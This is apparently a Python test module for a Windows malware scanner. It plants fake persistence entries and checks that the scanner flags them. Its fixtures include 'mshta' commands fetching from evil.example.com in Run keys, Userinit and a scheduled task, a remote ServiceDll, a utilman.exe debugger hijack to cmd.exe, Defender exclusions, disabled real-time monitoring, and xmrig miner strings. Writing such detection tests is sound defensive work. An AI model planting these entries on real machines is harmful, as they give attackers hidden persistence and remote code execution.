"""Findings of the scanner inside Windows or Wine: odd and planted entries, memory, signatures."""

from __future__ import annotations

import socket
import subprocess
import sys
import winreg
from pathlib import Path

from wine_files import FOLDER
from wine_values import HIVES, opened, set_raw

from lamsach.scanner import trust
from lamsach.scanner.checks.context import Context
from lamsach.scanner.checks.memory import memory_of
from lamsach.scanner.checks.processes import check_connections
from lamsach.scanner.checks.settings import check_protection, check_proxy
from lamsach.scanner.checks.start_windows import start_windows
from lamsach.scanner.control import Control
from lamsach.scanner.index import Index, build_index
from lamsach.scanner.options import Options
from lamsach.scanner.rules import MEMORY, Searcher, compile_rules, rule_sources
from lamsach.scanner.safe_open import Skipped

INTERNET = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Internet Settings"
WINLOGON = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"
DEFENDER = r"SOFTWARE\Microsoft\Windows Defender"
OPTIONS = rf"{WINLOGON.rpartition(chr(92))[0]}\Image File Execution Options\sethc.exe"
BAD = "mshta http://evil.example.com/a"
HALF = BAD.encode("utf-16-le")[:-1]
ODD_DATA: tuple[tuple[str, int, bytes], ...] = (
    ("no end", winreg.REG_SZ, BAD.encode("utf-16-le")),
    ("half a letter", winreg.REG_SZ, HALF),
    ("bytes as text", winreg.REG_SZ, b"\xff\xfe\xff"),
    ("short number", winreg.REG_DWORD, b"\x01\x02\x03"),
    ("long number", winreg.REG_DWORD, b"\x01" * 9),
    ("short quad", winreg.REG_QWORD, b"\x01"),
    ("several, no end", winreg.REG_MULTI_SZ, "a\0b".encode("utf-16-le")),
    ("nothing", winreg.REG_NONE, b""),
    ("unknown type", 4711, b"abc"),
    ("a link", winreg.REG_LINK, "x".encode("utf-16-le")),
    ("numbers", winreg.REG_BINARY, bytes(range(256)) * 40),
    ("expands", winreg.REG_EXPAND_SZ, "%nothing%%SystemRoot%\0".encode("utf-16-le")),
    ("surrogate", winreg.REG_SZ, b"\x00\xd8a\0\0\0"),
)
SETTINGS = ((INTERNET, "ProxyServer"), (INTERNET, "ProxyEnable"), (WINLOGON, "Shell"), (OPTIONS, "Debugger"))
RUN = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"


def planted() -> Context:
    """A context with a list of one name."""
    listed = FOLDER / "list.txt"
    listed.write_text("evil.example.com\n")
    loaded = build_index([str(listed)])
    return Context(Options(), Index(loaded.path), Control())


def odd_types() -> object:
    """Run keys and settings with data not of the declared type, next to a bad one.

    The checks read all of them.
    """
    refused = []

    def put(hive: str, path: str, name: str, kind: int, content: bytes) -> None:
        with opened(hive, path) as key:
            if set_raw(key, name, kind, content, len(content)):
                refused.append(name)

    for name, kind, content in ODD_DATA:
        for hive in HIVES:
            put(hive, RUN, name, kind, content)
    for path, name in SETTINGS:
        put("HKLM" if path != INTERNET else "HKCU", path, name, winreg.REG_DWORD, b"\x07")
    put("HKLM", rf"{DEFENDER}\Exclusions\Paths", "C:\\", winreg.REG_BINARY, b"\xff")
    put(
        "HKLM",
        rf"{DEFENDER}\Real-Time Protection",
        "DisableRealtimeMonitoring",
        winreg.REG_SZ,
        "1".encode("utf-16-le"),
    )
    put("HKLM", r"SYSTEM\CurrentControlSet\Services\Odd", "ImagePath", winreg.REG_BINARY, HALF)
    context = planted()
    for check in (start_windows, check_proxy, check_protection):
        check(context)
    seen = sorted({(finding.reason, finding.subject.rpartition(chr(92))[2]) for finding in context.findings})
    return {"refused": refused, "entries": context.counts.start_entries, "found": seen}


def starts() -> object:
    """One bad entry in each autostart location of Windows, and the scan's findings on them."""
    current = r"SOFTWARE\Microsoft\Windows\CurrentVersion"
    nt = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion"
    wanted = [
        ("HKCU", rf"{current}\RunOnce", "once", BAD),
        ("HKLM", rf"{current}\Policies\Explorer\Run", "policy", BAD),
        ("HKLM", r"SYSTEM\CurrentControlSet\Services\Bad", "ImagePath", BAD),
        (
            "HKLM",
            r"SYSTEM\CurrentControlSet\Services\Bad2\Parameters",
            "ServiceDll",
            r"\\evil.example.com\a.dll",
        ),
        ("HKLM", rf"{nt}\Winlogon", "Userinit", rf"C:\windows\system32\userinit.exe,{BAD}"),
        ("HKLM", rf"{nt}\Image File Execution Options\utilman.exe", "Debugger", "cmd.exe"),
        ("HKLM", rf"{nt}\Windows", "AppInit_DLLs", r"C:\users\public\x.dll"),
    ]
    for hive, path, name, text in wanted:
        with opened(hive, path) as key:
            winreg.SetValueEx(key, name, 0, winreg.REG_SZ, text)
    task = Path(r"C:\windows\System32\Tasks\Bad")
    task.parent.mkdir(parents=True, exist_ok=True)
    task.write_bytes(
        (
            f"<Task><Actions><Exec><Command>mshta</Command><Arguments>{BAD[6:]}</Arguments></Exec></Actions>"
            "</Task>"
        ).encode("utf-16")
    )
    link = Path.home() / "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/bad.vbs"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.write_text("x")
    context = planted()
    start_windows(context)
    seen = {(finding.reason, finding.subject.rpartition(chr(92))[2]) for finding in context.findings}
    return {"found": sorted(seen), "folder": any(name.endswith("bad.vbs") for name in context.starting)}


def memory() -> object:
    """Find a program whose memory matches the rules; report an ended program."""
    code = (
        "a = 'donate.v2.' + 'xmrig.com' + ' random' + 'x crypto' + 'night'; print('ready', flush=True); "
        "input()"
    )
    with subprocess.Popen(
        [sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    ) as child:
        assert child.stdout is not None
        child.stdout.readline()
        searcher = Searcher(compile_rules(rule_sources(own=MEMORY)), 60)
        found = {hit.name for piece in memory_of(child.pid, 1 << 28) for hit in searcher.search(piece)}
        child.kill()
        child.wait()
    try:
        gone = str(len(list(memory_of(child.pid, 1 << 20))))
    except Skipped as skipped:
        gone = skipped.reason
    return {"found": sorted(found), "gone": gone}


def connected() -> object:
    """Return the live connections, one of them our own."""
    context = planted()
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()):
        check_connections(context)
    return {"connections": context.counts.connections > 0, "skips": [skip.reason for skip in context.skips]}


def signatures() -> object:
    """Return the system's verdict on signatures."""
    files = sys.argv[sys.argv.index("--") + 1 :]
    return {Path(path).name: trust.signature(path) for path in files}
